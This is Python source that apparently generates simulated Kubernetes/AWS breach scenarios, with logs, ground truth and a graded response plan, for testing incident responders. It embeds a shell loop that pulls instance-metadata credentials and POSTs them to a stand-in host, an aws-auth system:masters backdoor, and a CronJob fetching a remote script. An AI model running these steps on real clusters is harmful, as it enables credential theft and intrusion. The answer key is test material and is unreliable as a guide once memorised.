    "k8s-patch-aws-auth": "patches aws-auth: adds a mapRoles entry rolearn eks-node-maintenance, username eks-maint:{{SessionName}}, groups system:masters (the request object shows the whole new mapRoles)",
    "k8s-create-cronjob": "creates CronJob kube-system/log-rotate: hourly, hostNetwork, hostPath /var/log, downloads and runs a script from 203.0.113.201",
    "k8s-cronjob-runs": "16:00 and 17:00: cronjob-controller creates Jobs log-rotate-29605920 / log-rotate-29605980 (ownerReferences CronJob), job-controller their pods (ownerReferences Job) on two nodes; scheduler, kubelet and controllers record each run",
    "runtime-dropped-binary": "Falco: the job pods download and execute /tmp/.cache/kdevtmpfsi",
    "aws-assume-role-xacct": "account 771234509876 assumes eks-node-maintenance from 203.0.113.205 (session maint-1776357612)",
    "k8s-role-reads-secrets": "the role's session, mapped by the new aws-auth entry to eks-maint:maint-1776357612 in system:masters, lists and reads checkout secrets and the jobs",
    "lookalike-ci-deploy": "benign: gitlab-deployer's normal deploys of checkout-api from its runner (198.51.100.150, aws-cli and kubectl 1.29 for Linux) at 09:14 and 13:47",
    "lookalike-existing-cronjob": "benign: the pre-existing CronJob checkout/nightly-report runs at 02:00 (same controllers, same record shapes)",
    "background": "benign: kubelets, control plane, metrics; the nodes' VPC CNI and ECR calls through the NAT",
}


def ac_consistency(docs):
    problems = []
    cm = docs["snapshot/configmaps-kube-system.json"]["items"][0]
    if R["role_arn"] not in cm["data"]["mapRoles"]:
        problems.append("snapshot: aws-auth lacks the added entry")
    jobs = {j["metadata"]["name"]: j for j in docs["snapshot/jobs.json"]["items"]}
    cjs = {c["metadata"]["name"]: c for c in docs["snapshot/cronjobs.json"]["items"]}
    for p in docs["snapshot/pods.json"]["items"]:
        o = (p["metadata"].get("ownerReferences") or [{}])[0]
        if o.get("kind") == "Job":
            j = jobs[o["name"]]
            if j["metadata"]["uid"] != o["uid"] or cjs[j["metadata"]["ownerReferences"][0]["name"]]["metadata"]["uid"] != j["metadata"]["ownerReferences"][0]["uid"]:
                problems.append(f"snapshot: owner chain of {p['metadata']['name']} broken")
    return problems


def build_aws_auth_cronjob(out):
    ac_world()
    C = R
    ac_benign()
    ac_attack()
    ac_falco()
    fix_k8s_audit_falco_output()
    audit_background(C, T("01:40:07.220418"), T("17:15:00"), gap=(100, 160))
    cloudtrail_background(C, range(2, 18, 3))
    base = os.path.join(out, "aws-auth-cronjob")
    files = {}
    write_ct_s3(base, files, ct_records())
    write_ct_eventbridge(base, files, ct_records(lambda r: r["eventSource"] == "iam.amazonaws.com" and not r["readOnly"]),
                         "cloudtrail/eventbridge-iam.jsonl")
    evs = audit_events()
    write_audit_log(base, files, evs)
    write_audit_filter(base, files, [ev for ev in evs if ev["user"]["username"] == C["ci_user"]],
                       ["kube-apiserver-audit-2b4d6f8a0c1e43a5b7d9f1e3a5c7b9d1", "kube-apiserver-audit-8f0e2d4c6b1a45f7e9d3c5b7a9e1f3d5"])
    write_falco(base, files)
    write_snapshot(base, files, ac_snapshot())
    A, B_, Cn = C["nodes"]
    runs = [(j, p, n) for j, p, n, _, cron, _, _ in C["jobs"] if cron == C["cron"]]
    nightly = [(j, p, n) for j, p, n, _, cron, _, _ in C["jobs"] if cron != C["cron"]][0]
    head = {
        "scenario": "aws-auth-cronjob",
        "summary": (f"The access key {C['ci_key']} of the CI/CD user {C['ci_user']} (mapped to system:masters in aws-auth) is used from "
                    f"{C['attacker_ip']} with tools it never used: it creates IAM role {C['role']} trusted by account {C['xacct']}, "
                    f"adds that role to kube-system/aws-auth as system:masters and creates CronJob {C['cron_ns']}/{C['cron']}, whose "
                    f"hourly Jobs run a downloaded binary on {A.name} and {B_.name}. At 16:40 account {C['xacct']} assumes the role and "
                    f"reads the checkout secrets through the new aws-auth entry ({S().cluster}, {S().account}, {S().region})."),
        "severity": "Critical",
        "severity_criteria": [
            {"level": "Critical", "criterion": "unauthorised access to cluster-admin credentials",
             "evidence": "system:masters mapping for a role another account can assume, added by a stolen CI key; used at 16:41"},
            {"level": "Critical", "criterion": "multiple nodes compromised",
             "evidence": "the CronJob's hostNetwork pods with the host's /var/log run a dropped binary on two nodes (Falco)"},
            {"level": "High", "criterion": "exposure of sensitive configuration", "evidence": "checkout/payment-gateway-keys read"},
        ],
        "entities": {
            "account": S().account, "region": S().region, "cluster": S().cluster, "cluster_arn": S().cluster_arn,
            "authentication_mode": "CONFIG_MAP",
            "cicd_user": f"arn:aws:iam::{S().account}:user/{C['ci_user']}", "cicd_key": C["ci_key"], "cicd_trusted_source": C["runner_ip"],
            "attacker_ips": [C["attacker_ip"], C["xacct_ip"]], "attacker_account": C["xacct"],
            "backdoor_role": C["role_arn"], "aws_auth_entry_added": {"rolearn": C["role_arn"], "username": "eks-maint:{{SessionName}}",
                                                                     "groups": ["system:masters"]},
            "role_session": C["session"], "role_session_key": C["session_key"], "k8s_username": f"eks-maint:{C['session']}",
            "workload": f"CronJob/{C['cron_ns']}/{C['cron']}", "workload_resource": "cronjobs",
            "jobs": [f"{C['cron_ns']}/{j}" for j, _, _ in runs], "pods": {f"{C['cron_ns']}/{p}": n.name for _, p, n in runs},
            "nodes": {A.name: A.instance, B_.name: B_.instance}, "not_compromised_node": {Cn.name: Cn.instance},
            "benign_cronjob": "CronJob/checkout/nightly-report",
        },
        "joins": [
            "access key AKIAV8PSBM4XRGD7YB2L -> CloudTrail accessKeyId and audit user.extra.accessKeyId -> gitlab-deployer; the attack differs from the CI's own use by source address and user agent",
            "CreateRole responseElements.role.arn -> the aws-auth patch's requestObject mapRoles rolearn -> AssumeRole requestParameters.roleArn (AWSAccount 771234509876) -> its credentials.accessKeyId -> audit user.extra.accessKeyId/canonicalArn of eks-maint:maint-1776357612 (username template {{SessionName}})",
            "CronJob -> Job (cronjob-controller, ownerReferences kind CronJob) -> Pod (job-controller, ownerReferences kind Job) -> scheduler Binding -> node -> Falco hostname",
        ],
        "benign_lookalikes": [
            "gitlab-deployer's own deploys from 198.51.100.150 at 09:14 and 13:47 (same user, same key, aws-cli and kubectl 1.29 for Linux)",
            "CronJob checkout/nightly-report and its 02:00 Job and pod (pre-existing, same controllers)",
            "the managed node role's entry in aws-auth (system:node:{{EC2PrivateDNSName}})",
        ],
        "steps": AC_STEPS,
    }
    expect = {
        "severity": "Critical",
        "criteria": ["critical.cluster_admin", "critical.multiple_nodes", "high.sensitive_config_exposure"],
        "affected": [
            {"kind": "iam_user", "name": C["ci_user"]},
            {"kind": "access_key", "name": C["ci_key"]},
            {"kind": "iam_role", "name": C["role"]},
            {"kind": "workload", "name": C["cron"], "namespace": C["cron_ns"], "attributes": {"kind": "CronJob"}},
            {"kind": "pod", "name": runs[0][1], "namespace": C["cron_ns"], "attributes": {"node": A.name}},
            {"kind": "pod", "name": runs[1][1], "namespace": C["cron_ns"], "attributes": {"node": B_.name}},
            {"kind": "node", "name": A.name}, {"kind": "node", "name": B_.name},
            {"kind": "secret", "name": "payment-gateway-keys", "namespace": "checkout"},
            {"kind": "ip", "name": C["attacker_ip"]}, {"kind": "ip", "name": C["xacct_ip"]},
            {"kind": "cluster", "name": S().cluster, "attributes": {"region": S().region, "arn": S().cluster_arn},
             "why": "IAM records say us-east-1 (a global service); the cluster is in us-east-2"},
        ],
        "not_affected": [
            {"kind": "workload", "name": "nightly-report", "namespace": "checkout"},
            {"kind": "pod", "name": nightly[1], "namespace": "checkout"},
            {"kind": "node", "name": Cn.name},
            {"kind": "ip", "name": C["runner_ip"]},
        ],
        "recover_after": ["contain", "eradicate"],
        "plan": [
            {"phase": "contain", "argv": ["aws", "iam", "update-access-key", "--access-key-id", C["ci_key"], "--status", "Inactive"],
             "flags": {"--user-name": C["ci_user"]}, "blocked": False,
             "why": "a CI/CD identity used from outside its trusted CIDR is never waived"},
            {"phase": "contain", "argv": ["aws", "iam", "put-role-policy", "--role-name", C["role"]], "blocked": False},
            {"any_of": [
                {"phase": "contain|eradicate", "argv": ["kubectl", "apply"],
                 "stdin_contains": ["name: aws-auth", "namespace: kube-system", C["node_role"], C["ci_user"]],
                 "stdin_not_contains": [C["role"]]},
                {"phase": "contain|eradicate", "argv": ["kubectl", "replace"],
                 "stdin_contains": ["name: aws-auth", C["node_role"], C["ci_user"]], "stdin_not_contains": [C["role"]]},
                {"phase": "contain|eradicate", "argv": ["kubectl", "patch", "configmap", "aws-auth"], "flags": {"--namespace": "kube-system"},
                 "argv_not_contains": [C["role"]]}],
             "why": "revert exactly the entry the attacker added; keep the node role and the CI user"},
            {"phase": "contain", "argv": ["kubectl", "cordon", A.name], "blocked": False},
            {"phase": "contain", "argv": ["kubectl", "cordon", B_.name], "blocked": False},
            {"phase": "contain", "argv": ["aws", "eks", "update-cluster-config", "--name", S().cluster, "--resources-vpc-config"],
             "flags": {"--region": S().region}, "blocked": False, "why": "EKS calls go to the cluster's region"},
            {"phase": "eradicate", "argv": ["kubectl", "delete", "cronjob", C["cron"]], "flags": {"--namespace": C["cron_ns"]}},
            {"phase": "eradicate", "argv": ["aws", "iam", "delete-role", "--role-name", C["role"]]},
        ],
        "plan_not": [
            {"phase": "contain|eradicate", "argv": ["kubectl", "delete", "configmap", "aws-auth"], "why": "never delete the whole aws-auth"},
            {"phase": "eradicate", "argv": ["kubectl", "delete", "cronjob", "nightly-report"]},
            {"phase": "eradicate", "argv": ["iam", "delete-user", "--user-name", C["ci_user"]], "why": "the CI user existed before"},
            {"phase": "contain", "argv": ["kubectl", "cordon", Cn.name]},
            {"phase": "recover", "argv": ["eks", "update-cluster-config", "*0.0.0.0/0*"]},
        ],
        "plan_order": [
            [{"phase": "eradicate", "argv": ["kubectl", "delete", "cronjob", C["cron"]]},
             {"phase": "eradicate", "argv": ["kubectl", "delete", "job", runs[0][0]]},
             {"phase": "eradicate", "argv": ["kubectl", "delete", "pod", runs[0][1]]}],
        ],
    }
    counts = finish_truth(out, "aws-auth-cronjob", head, files, expect, ("lookalike-ci-deploy", "lookalike-existing-cronjob"))
    return base, files, counts, check(base, os.path.join(out, "aws-auth-cronjob.truth.json"), ac_consistency)


# =============================================================================================
# Scenario 4: imds-s3-exfil (prod-analytics, eu-central-1, 2026-04-23)
# =============================================================================================
Q = {}
ARGO_UA = "argocd-application-controller/v2.13.3 (linux/amd64) kubernetes/$Format"


def ie_world():
    new_scenario("imds-s3-exfil", 20260423, "583920174635", "eu-central-1", "prod-analytics", "2026-04-23",
                 ["10.94.100.8", "10.94.101.162"], "8c0e2b4d6f8a0c2e4b6d8f0a2c4e6a8c")
    Q.clear()
    C = Q
    cluster_common(C, "prod-analytics", "v1.31.5-eks-8cce635", "kubelet/v1.31.4-eks-aeac579 (linux/amd64) kubernetes/aeac579")
    C["kube_proxy"] = "v1.31.3-minimal-eksbuild.2"
    C["node_role"], C["node_role_id"] = "prod-analytics-node-role", "AROAW9QTCN5YNODEANL4"
    C["ng_spark"], C["ng_general"] = "prod-analytics-spark", "prod-analytics-general"
    C["nodes"] = [Node("ip-10-94-17-36.eu-central-1.compute.internal", "10.94.17.36", "i-03c4d5e6f7a8b9c0d", "eu-central-1a",
                       "ASIAW9QTCN5YANLNDA01", "2026-04-20T05:31:02Z", C["ng_spark"], "r6i.2xlarge"),
                  Node("ip-10-94-52-119.eu-central-1.compute.internal", "10.94.52.119", "i-04d5e6f7a8b9c0d1e", "eu-central-1b",
                       "ASIAW9QTCN5YANLNDB02", "2026-04-20T05:31:06Z", C["ng_spark"], "r6i.2xlarge"),
                  Node("ip-10-94-88-7.eu-central-1.compute.internal", "10.94.88.7", "i-05e6f7a8b9c0d1e2f", "eu-central-1c",
                       "ASIAW9QTCN5YANLNDC03", "2026-04-20T05:30:58Z", C["ng_general"], "m6i.large")]
    C["nat"], C["argo_ip"] = "198.51.100.230", "198.51.100.210"
    C["metrics_server"] = ("metrics-server-6d8b9c7f5-t5v2n", C["nodes"][2], "10.94.88.61")
    C["coredns_rs"] = "8c6d5b9f47"
    C["vpc"], C["cluster_sg"] = "vpc-0d6f8b0c2e4a57913", "sg-0e6a8c0d2f4b57913"
    C["subnets"] = {"eu-central-1a": "subnet-0c6e8a0b2d4f57913", "eu-central-1b": "subnet-0d7f9b1c3e5a68024", "eu-central-1c": "subnet-0e8a0c2d4f6b79135"}
    C["endpoint"] = "https://8E0A2C4E6B1D3F5A7C9E0B2D4F6A8C1E.gr7.eu-central-1.eks.amazonaws.com"
    C["oidc"] = "8E0A2C4E6B1D3F5A7C9E0B2D4F6A8C1E"
    C["created"] = "2025-06-30T08:02:17.004000+00:00"
    C["sa"], C["sa_ns"] = "argocd-manager", "kube-system"
    C["token_ip"], C["creds_ips"] = "203.0.113.60", ["203.0.113.61", "203.0.113.62"]
    C["ns"], C["ds"] = "kube-ops", "node-problem-detector"
    C["image"] = "ghcr.io/npd-tools/node-problem-detector:v0.8.19"
    C["bucket"] = "analytics-exports-583920174635"
    C["etl_role"], C["etl_role_id"] = "analytics-etl", "AROAW9QTCN5YETLIRS05"
    C["iso_sg"] = "sg-0f1a2b3c4d5e6f708"
    C["snap"] = T("11:30:00")
    C["npd_pods"] = [(f"node-problem-detector-{M.suffix('npd' + n.name)}", n) for n in C["nodes"][:2]]
    C["nx_pods_old"] = [(f"node-exporter-{M.suffix('nxo' + n.name)}", n) for n in C["nodes"]]
    C["nx_pods"] = [(f"node-exporter-{M.suffix('nx' + n.name)}", n) for n in C["nodes"]]


def ie_sa_user():
    C = Q
    return {"username": f"system:serviceaccount:{C['sa_ns']}:{C['sa']}", "uid": stable_uuid(f"sa/{C['sa_ns']}/{C['sa']}"),
            "groups": ["system:serviceaccounts", f"system:serviceaccounts:{C['sa_ns']}", "system:authenticated"]}


def ie_sa_reason():
    C = Q
    return crb_reason("argocd-manager-role-binding", "argocd-manager-role", "ServiceAccount", f"{C['sa']}/{C['sa_ns']}")


def npd_containers():
    C = Q
    script = ("while true; do T=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 300'); "
              "R=$(curl -s -H \"X-aws-ec2-metadata-token: $T\" http://169.254.169.254/latest/meta-data/iam/security-credentials/); "
              "curl -s -H \"X-aws-ec2-metadata-token: $T\" http://169.254.169.254/latest/meta-data/iam/security-credentials/$R "
              f"| curl -s -X POST --data-binary @- https://{C['token_ip']}:8443/c; sleep 3600; done")
    return [{"name": "node-problem-detector", "image": C["image"], "command": ["/bin/sh", "-c", script],
             "resources": {"requests": {"cpu": "10m", "memory": "32Mi"}}}]


def nx_containers(tag):
    return [{"name": "node-exporter", "image": f"quay.io/prometheus/node-exporter:{tag}", "args": ["--path.rootfs=/host"],
             "volumeMounts": [{"name": "root", "mountPath": "/host", "readOnly": True}]}]


def s3_data_event(t, ident, name, key, ip, ua, label, step, size=None, prefix=None):
    C = Q
    b = C["bucket"]
    host = f"{b}.s3.{S().region}.amazonaws.com"
    params = {"bucketName": b, "Host": host}
    if name == "GetObject":
        params["key"] = key
        resources = [{"type": "AWS::S3::Object", "ARN": f"arn:aws:s3:::{b}/{key}"},
                     {"accountId": S().account, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{b}"}]
    else:
        params.update({"list-type": "2", "prefix": prefix, "encoding-type": "url"})
        resources = [{"type": "AWS::S3::Object", "ARNPrefix": f"arn:aws:s3:::{b}/{prefix}"},
                     {"accountId": S().account, "type": "AWS::S3::Bucket", "ARN": f"arn:aws:s3:::{b}"}]
    r = ct(t, ident, "s3.amazonaws.com", name, params=params, resp=None, ip=ip, ua=ua, label=label, step=step, version="1.10",
           resources=resources,
           extra={"additionalEventData": {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256", "bytesTransferredIn": 0,
                                          "AuthenticationMethod": "AuthHeader",
                                          "x-amz-id-2": hashlib.sha256((S().name + key).encode()).digest().hex()[:76],
                                          "bytesTransferredOut": size or 1846}})
    r["requestID"] = hashlib.md5(r["eventID"].encode()).hexdigest()[:16].upper()
    r["managementEvent"] = False
    r["eventCategory"] = "Data"
    r["tlsDetails"]["clientProvidedHostHeader"] = host
    return r


def ie_benign():
    C = Q
    A, B_, Cn = C["nodes"]
    # Argo CD (the hub, through the same service account) rolls out a new node-exporter at 08:05
    K = dict(user=ie_sa_user(), src=[C["argo_ip"]], ua=ARGO_UA, reason=ie_sa_reason(), step="lookalike-argocd-sync")
    audit(T("08:05:12.401288"), verb="get", uri="/apis/apps/v1/namespaces/monitoring/daemonsets/node-exporter",
          objref=oref("daemonsets", "monitoring", "node-exporter", "apps"), level="Request", **K)
    audit(T("08:05:12.910442"), verb="patch", uri="/apis/apps/v1/namespaces/monitoring/daemonsets/node-exporter?fieldManager=argocd-controller",
          objref=oref("daemonsets", "monitoring", "node-exporter", "apps", uid_=stable_uuid("DaemonSet/monitoring/node-exporter")),
          level="RequestResponse", req={"spec": {"template": {"spec": {"containers": [{"name": "node-exporter",
                                                                                      "image": "quay.io/prometheus/node-exporter:v1.8.2"}]}}}},
          resp={"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": "node-exporter", "namespace": "monitoring",
                                                                          "uid": stable_uuid("DaemonSet/monitoring/node-exporter")}}, **K)
    t = T("08:05:14.118204")
    for (old, n), (new, _) in zip(C["nx_pods_old"], C["nx_pods"]):
        audit(t, u_sa("kube-system", "daemon-set-controller"), "delete", f"/api/v1/namespaces/monitoring/pods/{old}",
              oref("pods", "monitoring", old), level="RequestResponse", ua=kcm_ua(C["server"], "daemon-set-controller"),
              req={"kind": "DeleteOptions", "apiVersion": "v1", "propagationPolicy": "Background"},
              resp={"kind": "Pod", "apiVersion": "v1", "metadata": {"name": old, "namespace": "monitoring"}},
              reason=controller_reason("daemon-set-controller"), step="lookalike-argocd-sync")
        t = later(t, S().rng.randint(6, 12))
        controller_pod(C, t, "monitoring", new, owner_ref("DaemonSet", "node-exporter", "monitoring"), n, nx_containers("v1.8.2"),
                       "node-exporter", "daemon-set-controller", "benign", "lookalike-argocd-sync",
                       labels={"app.kubernetes.io/name": "node-exporter", "controller-revision-hash": "7b9d6c5f48"}, host_network=True,
                       tolerations=[{"operator": "Exists"}])
        t = later(t, S().rng.randint(14, 25))
    # the ETL job reads the same bucket through its IRSA role, from the NAT
    oidc = f"arn:aws:iam::{S().account}:oidc-provider/oidc.eks.{S().region}.amazonaws.com/id/{C['oidc']}"
    boto = ("Boto3/1.35.90 md/Botocore#1.35.90 ua/2.0 os/linux#6.1.128-136.201.amzn2023.x86_64 md/arch#x86_64 lang/python#3.12.8 "
            "md/pyimpl#CPython cfg/retry-mode#standard Botocore/1.35.90")
    t = T("07:30:04")
    key = M.web_identity_assume(t, C["etl_role"], C["etl_role_id"], "botocore-session-1776929404", oidc,
                                "system:serviceaccount:analytics:etl", "sts.amazonaws.com", C["nat"], boto, "lookalike-etl-reads-bucket")
    etl = M.id_role(C["etl_role"], C["etl_role_id"], "botocore-session-1776929404", key, t,
                    {"webIdFederationData": {"federatedProvider": oidc, "attributes": {}}})
    s3_data_event(t + timedelta(seconds=2), etl, "ListObjects", "", C["nat"], f"[{boto}]", "benign", "lookalike-etl-reads-bucket",
                  prefix="exports/2026/04/22/")
    for i in range(2):
        s3_data_event(t + timedelta(seconds=3 + i), etl, "GetObject", f"exports/2026/04/22/orders-{i:03d}.parquet", C["nat"], f"[{boto}]",
                      "benign", "lookalike-etl-reads-bucket", size=41943040 + 1048576 * i)


def ie_attack():
    C = Q
    A, B_, Cn = C["nodes"]
    K = dict(user=ie_sa_user(), src=[C["token_ip"]], ua="kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc", reason=ie_sa_reason(),
             label="attack")
    audit(T("10:12:05.331402"), verb="list", uri="/api/v1/namespaces?limit=500", objref=oref("namespaces"), level="Request",
          step="k8s-enumerate", **K)
    audit(T("10:12:20.802714"), verb="list", uri="/api/v1/nodes?limit=500", objref=oref("nodes"), level="Request", step="k8s-enumerate", **K)
    t = T("10:13:40.118592")
    nsb = {"kind": "Namespace", "apiVersion": "v1", "metadata": {"name": C["ns"]}}
    audit(t, verb="create", uri="/api/v1/namespaces?fieldManager=kubectl-create&fieldValidation=Strict", objref=oref("namespaces", None, C["ns"]),
          code=201, level="RequestResponse", req=nsb,
          resp={"kind": "Namespace", "apiVersion": "v1", "metadata": {"name": C["ns"], "uid": stable_uuid("ns/" + C["ns"]),
                                                                      "creationTimestamp": iso_s(t)}, "status": {"phase": "Active"}},
          step="k8s-create-namespace", **K)
    labels = {"app.kubernetes.io/name": C["ds"], "app.kubernetes.io/part-of": "kube-ops"}
    tmpl = {"metadata": {"labels": labels}, "spec": {"hostNetwork": True, "nodeSelector": {"node.kubernetes.io/instance-type": "r6i.2xlarge"},
                                                     "tolerations": [{"operator": "Exists"}], "containers": npd_containers()}}
    ds = {"kind": "DaemonSet", "apiVersion": "apps/v1", "metadata": {"name": C["ds"], "namespace": C["ns"], "labels": labels},
          "spec": {"selector": {"matchLabels": labels}, "template": tmpl}}
    t = T("10:14:02.604117")
    audit(t, verb="create", uri=f"/apis/apps/v1/namespaces/{C['ns']}/daemonsets?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
          objref=oref("daemonsets", C["ns"], C["ds"], "apps"), code=201, level="RequestResponse", req=ds,
          resp=dict(ds, metadata=dict(ds["metadata"], uid=stable_uuid(f"DaemonSet/{C['ns']}/{C['ds']}"), creationTimestamp=iso_s(t))),
          step="k8s-create-daemonset", **K)
    t = later(t, 0, 60, 120)
    Q["imds_at"] = []
    for name, n in C["npd_pods"]:
        ts = controller_pod(C, t, C["ns"], name, owner_ref("DaemonSet", C["ds"], C["ns"]), n, npd_containers(), "default",
                            "daemon-set-controller", "attack", "k8s-daemonset-pods",
                            labels=dict(labels, **{"controller-revision-hash": "5f4c8b7d96"}), host_network=True,
                            tolerations=[{"operator": "Exists"}], node_selector={"node.kubernetes.io/instance-type": "r6i.2xlarge"})
        Q["imds_at"].append((name, n, later(ts, 2)))
        t = later(t, 0, 30, 80)
    # Falco on both nodes: the pods reach the instance metadata service
    for name, n, ti in Q["imds_at"]:
        cid = M.container_id(C["ns"], name, "node-problem-detector")[:12]
        repo, tag = C["image"].rsplit(":", 1)
        cf = M.container_fields(name, C["ns"], cid, repo, tag, "node-problem-detector")
        ctext = M.container_text(name, C["ns"], cid, repo, tag, "node-problem-detector")
        cmd = ("curl -s -H X-aws-ec2-metadata-token: AQAEA... http://169.254.169.254/latest/meta-data/iam/security-credentials/"
               + C["node_role"])
        conn = f"{n.ip}:{41000 + int(sha(name)[:3], 16) % 900}->169.254.169.254:80"
        falco(ti, 517, "Contact EC2 Instance Metadata Service From Container", "Notice", n.name,
              ["T1552.005", "aws", "container", "maturity_sandbox", "mitre_credential_access", "network"],
              "Outbound connection to EC2 instance metadata service",
              fields=dict(cf, **M.proc_fields("connect", "root", 0, "curl", "/usr/bin/curl", "sh", cmd, 0, 2211 + len(name)),
                          **{"fd.name": conn, "fd.l4proto": "tcp", "fd.type": "ipv4", "fd.rip": "169.254.169.254", "fd.rport": 80}),
              text_fields=[("connection", conn), ("lport", conn.split(":")[1].split("-")[0]), ("rport", "80"), ("fd_type", "ipv4"),
                           ("fd_proto", "tcp")] + M.proc_text("connect", "root", 0, "curl", "/usr/bin/curl", "sh", cmd, 0) + ctext,
              step="runtime-imds-credentials")
    # the node role's credentials, from outside AWS
    ua = ("aws-cli/2.17.20 md/awscrt#0.20.11 ua/2.0 os/linux#6.8.0-39-generic md/arch#x86_64 lang/python#3.11.9 md/pyimpl#CPython "
          "cfg/retry-mode#standard md/installer#exe md/distrib#ubuntu.24 md/prompt#off md/command#{}")
    Q["exfil"] = []
    for (n, ip, start, count) in ((A, C["creds_ips"][0], T("10:31:07"), 5), (B_, C["creds_ips"][1], T("10:44:15"), 3)):
        ident = node_session(C, n, T("09:58:41") if n is A else T("10:02:13"))
        ct(start, ident, "sts.amazonaws.com", "GetCallerIdentity", params=None, ip=ip, ua=ua.format("sts.get-caller-identity"),
           label="attack", step="aws-node-credentials-used")
        ct(start + timedelta(seconds=23), ident, "s3.amazonaws.com", "ListBuckets", params={"Host": f"s3.{S().region}.amazonaws.com"},
           ip=ip, ua=ua.format("s3.ls"), label="attack", step="aws-node-credentials-used")
        s3_data_event(start + timedelta(seconds=55), ident, "ListObjects", "", ip, f"[{ua.format('s3.ls')}]", "attack",
                      "s3-exfiltration", prefix="exports/")
        for i in range(count):
            key = f"exports/2026/04/22/customers-{i:03d}.parquet" if n is A else f"exports/2026/04/21/payments-{i:03d}.parquet"
            s3_data_event(start + timedelta(seconds=90 + 14 * i), ident, "GetObject", key, ip, f"[{ua.format('s3.cp')}]", "attack",
                          "s3-exfiltration", size=52428800 + 2097152 * i)
        Q["exfil"].append((n, ip, start, start + timedelta(seconds=90 + 14 * (count - 1))))


def ie_guardduty():
    C = Q
    geo = lambda ip: {"ipAddressV4": ip, "organization": {"asn": "64496", "asnOrg": "EXAMPLE-VPS", "isp": "Example VPS", "org": "Example VPS"},
                      "country": {"countryName": "Germany"}, "city": {"cityName": "Frankfurt am Main"}, "geoLocation": {"lat": 50.11, "lon": 8.68}}
    fids = ["0b2d4f6a8c0e2b4d6f8a0c2e4b6d8f0a", "2d4f6a8c0e2b4d6f8a0c2e4b6d8f0a2c"]
    for (n, ip, start, end), fid, created in zip(Q["exfil"], fids, (T("10:38:20.512"), T("10:51:02.207"))):
        res = {"resourceType": "AccessKey",
               "accessKeyDetails": {"accessKeyId": n.asia, "principalId": f"{C['node_role_id']}:{n.instance}",
                                    "userName": C["node_role"], "userType": "AssumedRole"},
               "instanceDetails": {"instanceId": n.instance, "instanceType": n.itype, "availabilityZone": n.zone,
                                   "iamInstanceProfile": {"arn": f"arn:aws:iam::{S().account}:instance-profile/eks-{n.nodegroup}-{sha('ip' + n.nodegroup)[:8]}",
                                                          "id": "AIPAW9QTCN5Y" + sha("ipid" + n.nodegroup)[:9].upper()},
                                   "tags": [{"key": "eks:cluster-name", "value": S().cluster}, {"key": "eks:nodegroup-name", "value": n.nodegroup}]}}
        act = {"actionType": "AWS_API_CALL", "awsApiCallAction": {"api": "ListBuckets", "serviceName": "s3.amazonaws.com",
                                                                 "callerType": "Remote IP", "remoteIpDetails": geo(ip), "affectedResources": {}}}
        finding(fid, "UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS", 8,
                "Credentials for instance role prod-analytics-node-role used from external IP address.",
                f"Credentials created exclusively for an EC2 instance using instance role {C['node_role']} have been used from external "
                f"IP address {ip}.", res, M.service_block(start, end, 4, act), created, created,
                step="detect-instance-credentials-outside-aws")
    n, ip, start, end = Q["exfil"][0]
    res = {"resourceType": "S3Bucket",
           "accessKeyDetails": {"accessKeyId": n.asia, "principalId": f"{C['node_role_id']}:{n.instance}", "userName": C["node_role"],
                                "userType": "AssumedRole"},
           "s3BucketDetails": [{"arn": f"arn:aws:s3:::{C['bucket']}", "name": C["bucket"], "type": "Destination",
                                "createdAt": epoch(T("12:03:44", "2025-07-02")),
                                "owner": {"id": sha("owner")[:64]}, "tags": [{"key": "data-class", "value": "confidential"}],
                                "defaultServerSideEncryption": {"encryptionType": "aws:kms"},
                                "publicAccess": {"effectivePermission": "NOT_PUBLIC"}}]}
    act = {"actionType": "AWS_API_CALL", "awsApiCallAction": {"api": "GetObject", "serviceName": "s3.amazonaws.com", "callerType": "Remote IP",
                                                             "remoteIpDetails": geo(ip), "affectedResources": {"AWS::S3::Bucket": C["bucket"]}}}
    finding("4f6a8c0e2b4d6f8a0c2e4b6d8f0a2c4e", "Exfiltration:S3/AnomalousBehavior", 8,
            f"Anomalous data access of S3 bucket {C['bucket']}.",
            f"An IAM entity invoked an S3 API in a suspicious way: {C['node_role']} read objects of {C['bucket']} from {ip} "
            "in a volume and manner not seen before.", res,
            M.service_block(start, Q["exfil"][1][3], 8, act, extra={"additionalInfo": {"value": "{\"unusual\":{\"userNames\":[\"prod-analytics-node-role\"]}}", "type": "default"}}),
            T("11:02:44.930"), T("11:02:44.930"), step="detect-s3-exfiltration")


def ie_snapshot():
    C = Q
    A, B_, Cn = C["nodes"]
    pods = system_pod_objects(C, T("05:33:10", "2026-04-20"), ["10.94.17.80", "10.94.52.91"])
    for name, n in C["nx_pods"]:
        pods.append(M.make_pod(name, "monitoring", T("08:05:20"), nx_containers("v1.8.2"), n, n.ip,
                               labels={"app.kubernetes.io/name": "node-exporter", "controller-revision-hash": "7b9d6c5f48"},
                               owner_ref=owner_ref("DaemonSet", "node-exporter", "monitoring"), sa="node-exporter", host_network=True,
                               volumes=[{"name": "root", "hostPath": {"path": "/", "type": ""}}], generate_name="node-exporter-",
                               tolerations=[{"operator": "Exists"}]))
    for name, n in C["npd_pods"]:
        p = M.make_pod(name, C["ns"], T("10:14:03"), npd_containers(), n, n.ip,
                       labels={"app.kubernetes.io/name": C["ds"], "app.kubernetes.io/part-of": "kube-ops", "controller-revision-hash": "5f4c8b7d96"},
                       owner_ref=owner_ref("DaemonSet", C["ds"], C["ns"]), host_network=True, generate_name=C["ds"] + "-",
                       tolerations=[{"operator": "Exists"}])
        p["spec"]["nodeSelector"] = {"node.kubernetes.io/instance-type": "r6i.2xlarge"}
        pods.append(p)
    img = f"{S().account}.dkr.ecr.eu-central-1.amazonaws.com/spark-history:3.5.4"
    pods.append(M.make_pod("spark-history-6c8f7d9b5-j4k8m", "analytics", T("06:12:40", "2026-04-20"), [{"name": "spark-history", "image": img}],
                           Cn, "10.94.88.140", labels={"app.kubernetes.io/name": "spark-history", "pod-template-hash": "6c8f7d9b5"},
                           owner_ref=owner_ref("ReplicaSet", "spark-history-6c8f7d9b5", "analytics"), sa="spark-history",
                           generate_name="spark-history-6c8f7d9b5-"))
    pods.sort(key=lambda p: (p["metadata"]["namespace"], p["metadata"]["name"]))

